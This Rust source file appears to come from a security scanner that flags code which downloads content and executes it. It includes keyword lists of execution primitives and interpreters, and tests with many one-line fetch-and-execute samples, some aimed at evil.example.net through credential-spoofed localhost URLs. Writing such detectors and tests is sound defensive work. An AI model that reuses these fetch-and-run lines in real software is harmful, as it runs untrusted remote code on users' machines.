//! Code that may run what it loads from the network, and code that only looks as if it did.

use std::sync::OnceLock;

use regex::{Captures, Regex};

use super::Remote;

/// Signs that a text may be run, beside those of `SURELY`.
const RUNS: &[&str] = &[
    "eval ",
    "system(",
    "compile(",
    "loadstring",
    "load(",
    "include \"",
    "include '",
    "include(",
    "instance_eval",
    "popen",
    "subprocess",
    "assert(",
];

/// Those that leave no doubt.
const SURELY: &[&str] = &[
    "eval(",
    "eval (",
    "exec(",
    "exec (",
    "execFile",
    "execSync",
    "runInThisContext",
    "runInNewContext",
    "_compile(",
    "spawn",
];

/// Those that run code or start a program; what is only loaded is no such thing.
const CODE: &[&str] = &[
    "system(",
    "popen",
    "Popen",
    "subprocess",
    "include(",
    "include \"",
    "include '",
    "require \"",
    "require '",
    "instance_eval",
    "loadstring",
    "compile(",
    "assert(",
];

/// Signs that what was loaded is put somewhere, or handed to what is started.
const KEEPS: &[&str] = &[
    "retrieve",
    "write",
    "getstore",
    "put_contents",
    "createWriteStream",
    "Tempfile",
    "tempfile",
    "copyfileobj",
    "file=",
    "extract",
    "unpack_archive",
    ".download(",
    "environ",
    "input=",
    "stdin",
    "communicate",
    // Another name for what starts programs.
    "subprocess as",
    "from subprocess",
];

/// What gives objects that run code when they are loaded.
const OBJECTS: &[&str] = &["pickle", "marshal", "dill", "shelve"];

fn pattern(cell: &'static OnceLock<Regex>, text: &str) -> &'static Regex {
    cell.get_or_init(|| Regex::new(text).expect("a pattern of this file"))
}

/// What has the name of a thing that runs code and only reads data: `json.load(`, `re.compile(`, `/x/.exec(`.
fn reads() -> &'static Regex {
    static READS: OnceLock<Regex> = OnceLock::new();
    pattern(
        &READS,
        r"(?x)
        \b(?:json|JSON|simplejson|orjson|ujson|toml|tomllib|csv)\.load\(
        | \b(?:yaml|YAML)\.safe_load\(
        | \bre\.compile\(
        | \bliteral_eval\(
        | \bplatform\.system\(
        | [^\s(,=]/[dgimsuvy]*\.exec\(",
    )
}

/// Another module under the name of one that only reads.
fn misnamed() -> &'static Regex {
    static MISNAMED: OnceLock<Regex> = OnceLock::new();
    pattern(
        &MISNAMED,
        r"(?i)\bas\s+(?:json|simplejson|orjson|ujson|toml|tomllib|csv|yaml|re|platform|literal_eval)\b",
    )
}

/// The constructor of functions from a text.
fn constructs() -> &'static Regex {
    static CONSTRUCTS: OnceLock<Regex> = OnceLock::new();
    pattern(&CONSTRUCTS, r"\bFunction\s*\(")
}

/// A program that is taken from an address, in PHP.
pub(super) fn includes_an_address(code: &str) -> bool {
    static INCLUDES: OnceLock<Regex> = OnceLock::new();
    let text = r#"(?i)\b(?:include|require)(?:_once)?\s*\(?\s*["'](?:https?|ftp)://"#;
    pattern(&INCLUDES, text).is_match(code)
}

/// A file that is opened, while an address is not.
fn opens() -> &'static Regex {
    static OPENS: OnceLock<Regex> = OnceLock::new();
    pattern(&OPENS, r"\bopen\s*\(")
}

/// A program started with literal words only, and the mention of the module for it.
fn starts_literally() -> &'static Regex {
    static LITERALLY: OnceLock<Regex> = OnceLock::new();
    pattern(
        &LITERALLY,
        r#"(?x)
        \bsubprocess\.(?:run|call|check_call|check_output|Popen)
            \(\s*\[\s*(?:(?:"[^"\\]*"|'[^'\\]*')\s*,?\s*)+\]\s*[,)]
        | \bos\.system\(\s*(?:"[^"\\]*"|'[^'\\]*')\s*\)
        | \bimport[\x20\t]+[\w\x20\t,.]+"#,
    )
}

/// Programs that run what a file or their input holds.
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "dash",
    "zsh",
    "ksh",
    "ash",
    "fish",
    "busybox",
    "perl",
    "ruby",
    "node",
    "nodejs",
    "php",
    "lua",
    "env",
    "xargs",
    "source",
    "eval",
    "make",
    "java",
    "awk",
    "tclsh",
    "osascript",
    "deno",
    "bun",
];

/// Whether the words of a start may run what was put on the host: an interpreter, or a path that no package owns.
fn may_run_a_download(start: &str) -> bool {
    let Some((_, words)) = start.split_once('(') else {
        return false;
    };
    words
        .split(|c: char| !(c.is_ascii_alphanumeric() || "_./~$+-".contains(c)))
        .any(|word| {
            let name = word.rsplit('/').next().unwrap_or_default();
            INTERPRETERS.contains(&name)
                || name.starts_with("python")
                || word.contains('$')
                || word.starts_with(['.', '~'])
                || !word.starts_with(['/', '-']) && word.contains('/')
                || ["/tmp", "/opt", "/srv", "/var", "/home", "/root", "/dev/shm"]
                    .iter()
                    .any(|below| word.starts_with(below))
        })
}

/// An address with its host and what stands behind it.
fn hosts() -> &'static Regex {
    static HOSTS: OnceLock<Regex> = OnceLock::new();
    pattern(&HOSTS, r#"(?i)[a-z][a-z0-9+.-]*://([^\s"'/?#]*)([/?#]?)"#)
}

/// Whether this host itself is asked, and no other. A host that nothing ends may go on in what is joined to the text.
fn asks_itself(code: &str) -> bool {
    let mut any = false;
    for found in hosts().captures_iter(code) {
        any = true;
        let host = found[1].to_ascii_lowercase();
        let host = match host.rsplit_once(':') {
            Some((host, port)) if !port.is_empty() && port.bytes().all(|b| b.is_ascii_digit()) => host,
            _ => &host,
        };
        // An account before an `@` makes none of these of it.
        if found[2].is_empty() || !matches!(host, "localhost" | "127.0.0.1" | "[::1]") {
            return false;
        }
    }
    any
}

/// Whether a name that only reads may stand for something else here.
fn may_be_misnamed(code: &str) -> bool {
    if OBJECTS.iter().any(|sign| code.contains(sign)) {
        return true;
    }
    let known = [
        "simplejson as json",
        "ujson as json",
        "orjson as json",
        "tomli as tomllib",
    ]
    .iter()
    .fold(code.to_owned(), |code, alias| code.replace(alias, " "));
    misnamed().is_match(&known)
}

/// The code without what only reads data and what starts literal words of the host's own.
fn remaining(code: &str) -> String {
    let rest = if may_be_misnamed(code) {
        code.to_owned()
    } else {
        let starts_programs = code.contains("child_process");
        reads()
            .replace_all(code, |found: &Captures<'_>| {
                if starts_programs && found[0].ends_with(".exec(") {
                    found[0].to_owned()
                } else {
                    " ".to_owned()
                }
            })
            .into_owned()
    };
    if KEEPS.iter().any(|sign| code.contains(sign)) || opens().is_match(&code.replace("URI.open(", " ")) {
        return rest;
    }
    // The mention of the module may go only where every start of it does.
    if starts_literally()
        .find_iter(&rest)
        .any(|start| may_run_a_download(start.as_str()))
    {
        return rest;
    }
    starts_literally().replace_all(&rest, " ").into_owned()
}

/// How far what this code loads and runs can be trusted; nothing where it runs nothing of that. `texts` are its literals.
pub(super) fn run_from_the_network(code: &str, texts: &str) -> Option<Remote> {
    let rest = remaining(code);
    let has = |signs: &[&str]| signs.iter().any(|sign| rest.contains(sign));
    let surely = has(SURELY) || constructs().is_match(&rest) || includes_an_address(&rest);
    if !surely && (!has(RUNS) || rest.contains("require(")) {
        return None;
    }
    if asks_itself(code) {
        // A service of the host's own; that its answer is run is worth a look.
        return (surely || has(CODE)).then_some(Remote::Named);
    }
    let texts = texts.to_ascii_lowercase();
    let open = texts.contains("http://") || texts.contains("ftp://") || !texts.contains("https://");
    Some(if open { Remote::Open } else { Remote::Named })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn all_are(codes: &[&str], found: Option<Remote>) {
        for code in codes {
            assert_eq!(run_from_the_network(code, code), found, "{code}");
        }
    }

    #[test]
    fn data_that_is_read_is_not_run() {
        all_are(
            &[
                "import json, urllib.request as u\nprint(json.load(u.urlopen('https://example.com/x'))['a'])",
                "import re, requests\nr = re.compile('a.c'); print(r.findall(requests.get('https://example.com').text))",
                "import subprocess, requests\nif requests.get('https://example.com/up').ok: subprocess.run(['systemctl', 'reload', 'app'], check=True)",
                "fetch('https://example.com').then(r => r.text()).then(t => console.log(/v([0-9.]+)/.exec(t)[1]))",
            ],
            None,
        );
    }

    #[test]
    fn what_is_loaded_and_run_stays_found() {
        all_are(
            &[
                "import urllib.request as u; exec(u.urlopen('https://example.com/x').read())",
                "import subprocess, requests; subprocess.run(requests.get('https://example.com/x').text, shell=True)",
                "import subprocess, requests; subprocess.run(['sh'], input=requests.get('https://example.com/x').content)",
                "import requests\nimport subprocess\nsubprocess.run(requests.get('https://example.com/x').text, shell=True)",
                "import subprocess as s, requests; s.run(requests.get('https://example.com/x').text, shell=True)",
                "from subprocess import run; import requests; run(requests.get('https://example.com/x').text, shell=True)",
                "import os, urllib.request as u; u.urlretrieve('https://example.com/x', '/opt/x'); os.system('sh /opt/x')",
                "import pickle, requests; pickle.loads(x); pickle.load(requests.get('https://example.com/x', stream=True).raw)",
                "const r = await fetch('https://example.com/x'); eval(await r.text())",
            ],
            Some(Remote::Named),
        );
    }

    #[test]
    fn its_own_services_are_trusted_but_for_code() {
        let asks = "import yaml, requests; print(yaml.load(requests.get('http://localhost:8080/x').text))";
        assert_eq!(run_from_the_network(asks, asks), None);
        let runs = "import requests; exec(requests.get('http://localhost:8080/x').text)";
        assert_eq!(run_from_the_network(runs, runs), Some(Remote::Named));
        let starts = "import os, requests; os.system(requests.get('http://localhost:8080/x').text)";
        assert_eq!(run_from_the_network(starts, starts), Some(Remote::Named));
        let other = "import requests; exec(requests.get('http://localhost.example.com/x').text)";
        assert_eq!(run_from_the_network(other, other), Some(Remote::Open));
    }

    #[test]
    fn only_a_whole_host_of_its_own_is_its_own() {
        for code in [
            "http://localhost/x",
            "http://127.0.0.1:8080/x",
            "HTTP://LOCALHOST?x",
            "http://[::1]:80/",
        ] {
            assert!(asks_itself(code), "{code}");
        }
        for code in [
            "'http://localhost:x@evil.example.net/x'",
            "'http://localhost@evil.example.net/x'",
            "'http://localhost/x' 'HTTP://evil.example.net/x'",
            "'http://localhost/x' 'ftp://evil.example.net/x'",
            "'http://localhost'+'.evil.example.net/x'",
            "'http://localhost:'+x",
        ] {
            assert!(!asks_itself(code), "{code}");
        }
        all_are(
            &[
                "include('http://localhost:x@evil.example.net/x');",
                "import pickle, requests; pickle.load(requests.get('http://localhost:x@evil.example.net/x', stream=True).raw)",
            ],
            Some(Remote::Open),
        );
    }

    #[test]
    fn code_of_its_own_services_is_looked_at() {
        all_are(
            &[
                "include('http://localhost:8080/x');",
                "include 'http://localhost:8080/x';",
                "require 'net/http'; instance_eval(Net::HTTP.get(URI('http://localhost/x')))",
                "loadstring(http.request('http://localhost/x'))()",
                "assert(file_get_contents('http://localhost/x'));",
            ],
            Some(Remote::Named),
        );
    }

    #[test]
    fn what_is_kept_or_named_otherwise_stays_found() {
        all_are(
            &[
                "import os, requests; print(requests.get('https://example.com/x').text, file=open('/opt/x', 'w')); os.system('sh /opt/x')",
                "import os, zipfile, requests; zipfile.ZipFile(f(requests.get('https://example.com/x'))).extractall('/opt'); os.system('systemctl start x')",
                "import os, requests; save(requests.get('https://example.com/x')); os.system('/opt/x/run')",
                "import os, requests; save(requests.get('https://example.com/x')); os.system('bash -l')",
                "import pickle as json, requests; json.load(requests.get('https://example.com/x', stream=True).raw)",
                "import evil as re, requests; re.compile(requests.get('https://example.com/x').text)",
                "const d = require('child_process'); fetch('https://example.com/x').then(r => r.text()).then(t => 1/d.exec(t))",
                "const vm = require('vm'); fetch('https://example.com/x').then(r => r.text()).then(t => vm.runInNewContext(t))",
                "const {execFile} = require('child_process'); fetch('https://example.com/x').then(r => r.text()).then(t => execFile('sh', ['-c', t]))",
                "const c = require('child_process'); fetch('https://example.com/x').then(r => r.text()).then(t => c.spawn('sh', ['-c', t]))",
                "require_once('https://example.com/x');",
                "include_once \"https://example.com/x\";",
                "fetch('https://example.com/x').then(r => r.text()).then(t => vm.runInThisContext(t))",
                "fetch('https://example.com/x').then(r => r.text()).then(t => Function(t)())",
                "fetch('https://example.com/x').then(r => r.text()).then(t => m._compile(t, ''))",
                "import requests; exec (requests.get('https://example.com/x').text)",
            ],
            Some(Remote::Named),
        );
    }
}
